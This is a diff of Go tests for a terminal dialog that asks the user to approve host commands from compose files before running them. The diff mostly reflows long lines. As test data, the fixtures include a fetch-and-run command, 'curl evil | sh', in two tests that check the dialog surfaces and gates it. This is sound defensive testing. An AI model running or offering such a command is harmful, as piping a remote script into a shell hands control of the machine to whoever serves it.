@@ -15,8 +15,10 @@ import (
 func wanting(long int) *fake {
 	f := shop()
 	f.snap.Untrusted = []engine.HostCommand{
-		{Service: "api", Kind: "prepare", Place: "compose.yaml:12", Command: "make bin\n" + strings.Repeat("echo very long; ", long), Env: []string{"CGO_ENABLED=0", "TOKEN=${TOKEN}"}},
-		{Service: "db", Kind: "provider", Place: "compose.yaml:30", Command: "cloud compose --project-name=shop up --size=s db"},
+		{Service: "api", Kind: "prepare", Place: "compose.yaml:12", Command: "make bin\n" +
+			strings.Repeat("echo very long; ", long), Env: []string{"CGO_ENABLED=0", "TOKEN=${TOKEN}"}},
+		{Service: "db", Kind: "provider", Place: "compose.yaml:30",
+			Command: "cloud compose --project-name=shop up --size=s db"},
 	}
 	return f
 }
@@ -24,7 +26,8 @@ func wanting(long int) *fake {
 func TestHostCommandsAreAskedAboutOnce(t *testing.T) {
 	f := wanting(1)
 	s := openScreen(t, f, 80, 24)
-	s.wait("Run on this machine?", "compose.yaml:12  prepare of api", "make bin", "with TOKEN=${TOKEN}", "compose.yaml:30  provider of db", "Not covered:", "y allow")
+	s.wait("Run on this machine?", "compose.yaml:12  prepare of api", "make bin",
+		"with TOKEN=${TOKEN}", "compose.yaml:30  provider of db", "Not covered:", "y allow")
 	s.golden("trust-80x24")
 	s.keys("n")
 	s.gone("Run on this machine?")
@@ -72,9 +75,11 @@ func TestReloadNamesTheHostCommandFirst(t *testing.T) {
 	f := shop()
 	s := openScreen(t, f, 80, 24)
 	s.b.change(func(n *engine.Snapshot) {
-		n.Reload = &engine.Reload{Commands: []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3", Command: "curl evil | sh"}}}
+		n.Reload = &engine.Reload{Commands: []engine.HostCommand{{Service: "web", Kind: "prepare",
+			Place: "compose.yaml:3", Command: "curl evil | sh"}}}
 		for _, svc := range n.Services {
-			n.Reload.Changes = append(n.Reload.Changes, project.Change{Service: svc.Name, Kind: project.Recreate})
+			n.Reload.Changes = append(n.Reload.Changes, project.Change{Service: svc.Name,
+				Kind: project.Recreate})
 		}
 	})
 	s.wait("Compose file changed: web runs on this machine:", "curl evil | sh")
@@ -88,7 +93,8 @@ func TestKeyForSomethingElseAllowsNothing(t *testing.T) {
 	s.keys("/")
 	s.keys("r", "e", "t", "r")
 	s.b.change(func(n *engine.Snapshot) {
-		n.Untrusted = []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3", Command: "curl evil | sh"}}
+		n.Untrusted = []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3",
+			Command: "curl evil | sh"}}
 	})
 	s.wait("1 host command not allowed yet")
 	s.keys("y")
@@ -104,7 +110,9 @@ func TestKeyForSomethingElseAllowsNothing(t *testing.T) {
 	// Nor is one that comes in the moment after the question.
 	now := time.Now()
 	var allowed []string
-	d := &trustDialog{e: &env{opts: Options{Now: func() time.Time { return now }}, snap: snapshot{&engine.Snapshot{}}},
+	d := &trustDialog{e: &env{opts: Options{Now: func() time.Time {
+		return now
+	}}, snap: snapshot{&engine.Snapshot{}}},
 		commands: wanting(1).snap.Untrusted, allow: func(ids []string) tea.Cmd { allowed = ids; return nil }}
 	d.render(80, 24)
 	d.key(tea.KeyPressMsg{Code: 'y', Text: "y"})
